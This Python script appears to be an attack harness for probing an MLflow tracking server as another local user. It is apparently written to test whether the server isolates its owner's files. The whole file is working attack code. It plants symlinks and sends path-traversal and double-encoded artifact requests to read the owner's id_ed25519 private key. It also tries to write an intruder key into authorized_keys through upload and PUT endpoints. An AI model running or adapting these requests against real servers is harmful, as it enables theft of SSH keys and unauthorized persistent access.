"""What another user of the machine tries on a tracking server to get at the files of its owner.

Run as that user, by the system's Python: needs nothing but the standard library.

``python3 tracking_attacker.py ADDRESS OWN_FOLDER OWNERS_FOLDER``, ``$ATTACKER_AUTHORIZATION`` a header to send.
Prints JSON: what was read of ``id_ed25519`` there, and the status of every call that answered.
"""

from __future__ import annotations

import base64
import itertools
import json
import os
import sys
import urllib.error
import urllib.parse
import urllib.request
from collections.abc import Mapping
from pathlib import Path
from typing import Any

KEY = "id_ed25519"
DOOR = "authorized_keys"
INTRUDER = b"ssh-ed25519 AAAA intruder\n"


class Attacker:
    """Calls the server at ``address`` by every way in that MLflow has."""

    def __init__(self, address: str, own: Path, target: Path) -> None:
        self._address = address
        self._own = own
        self._target = target
        self._numbers = itertools.count()
        self.statuses: dict[str, int] = {}
        self.read: list[str] = []

    def call(self, method: str, path: str, body: Any = None, /, *, data: bytes | None = None, **query: str) -> Any:
        address = f"{self._address}{path}" + (f"?{urllib.parse.urlencode(query)}" if query else "")
        headers = {"Content-Type": "application/json"}
        if authorization := os.environ.get("ATTACKER_AUTHORIZATION"):
            headers["Authorization"] = authorization
        content = data if data is not None else json.dumps(body).encode() if body is not None else None
        request = urllib.request.Request(address, data=content, headers=headers, method=method)
        try:
            with urllib.request.urlopen(request, timeout=30) as answer:
                status, text = answer.status, answer.read()
        except urllib.error.HTTPError as error:
            status, text = error.code, error.read()
        self.statuses[f"{next(self._numbers)} {method} {path}"] = status
        if b"PRIVATE KEY" in text:
            self.read.append(f"{method} {path}")
        try:
            return json.loads(text)
        except ValueError:
            return {}

    def attack(self) -> None:
        for api in ("api", "ajax-api", "/api", "x/../api"):
            self.through_an_experiment(f"/{api}/2.0/mlflow")
            self.through_a_model(f"/{api}/2.0/mlflow")
            self.through_the_proxy(f"/{api}/2.0/mlflow-artifacts")
        for experiment in ("0", "1"):
            self.through_a_run("/ajax-api/2.0/mlflow", experiment)

    def through_an_experiment(self, api: str) -> None:
        for key in ("artifact_location", "artifactLocation"):
            body = {"name": f"own-{next(self._numbers)}", key: str(self._own / "location")}
            # MLflow also reads JSON in a string of JSON
            for form in (body, json.dumps({**body, "name": f"own-{next(self._numbers)}"})):
                made = self.call("POST", f"{api}/experiments/create", form)
                if experiment := made.get("experiment_id"):
                    self.through_a_run(api, experiment)

    def through_a_run(self, api: str, experiment: str) -> None:
        made: Mapping[str, Any] = self.call("POST", f"{api}/runs/create", {"experiment_id": experiment})
        info = made.get("run", {}).get("info")
        if not info:
            return
        run, place = info["run_id"], urllib.parse.urlparse(info["artifact_uri"])
        link = Path(place.path)
        if place.scheme in ("", "file") and link.is_relative_to(self._own):
            link.parent.mkdir(parents=True, exist_ok=True)
            link.symlink_to(self._target)
        for path in (KEY, f"../../../../../../../..{self._target / KEY}", str(self._target / KEY)):
            self.call("GET", "/get-artifact", run_id=run, path=path)
            self.call("GET", "/get-artifact", run_uuid=run, path=path)
        self.call("GET", f"{api}/artifacts/list", run_id=run)
        for name in ("run_uuid", "run_id"):
            self.call(
                "POST",
                "/ajax-api/2.0/mlflow/upload-artifact",
                data=INTRUDER,
                **{name: run, "path": DOOR},
            )

    def through_a_model(self, api: str) -> None:
        name = f"model-{next(self._numbers)}"
        self.call("POST", f"{api}/registered-models/create", {"name": name})
        link = self._own / name
        link.symlink_to(self._target)
        for source in (str(self._target), self._target.as_uri(), str(link)):
            made = self.call("POST", f"{api}/model-versions/create", {"name": name, "source": source})
            version = made.get("model_version", {}).get("version", "1")
            self.call("GET", "/model-versions/get-artifact", name=name, version=version, path=KEY)

    def through_the_proxy(self, api: str) -> None:
        relative = f"{'/'.join(['..'] * 12)}{self._target}"
        twice = urllib.parse.quote(urllib.parse.quote(relative, safe=""), safe="")
        for path in (relative, relative.replace("..", "%2e%2e"), urllib.parse.quote(relative, safe=""), twice):
            self.call("GET", f"{api}/artifacts/{path}/{KEY}")
            self.call("PUT", f"{api}/artifacts/{path}/{DOOR}", data=INTRUDER)
        self.call("GET", f"{api}/artifacts", path=relative)


def main() -> None:
    address, own, target = sys.argv[1:]
    attacker = Attacker(address, Path(own), Path(target))
    attacker.attack()
    json.dump({"read": attacker.read, "statuses": attacker.statuses}, sys.stdout)


def basic(name: str, password: str) -> str:
    """The header of a name and a password."""
    return "Basic " + base64.b64encode(f"{name}:{password}".encode()).decode()


if __name__ == "__main__":
    main()
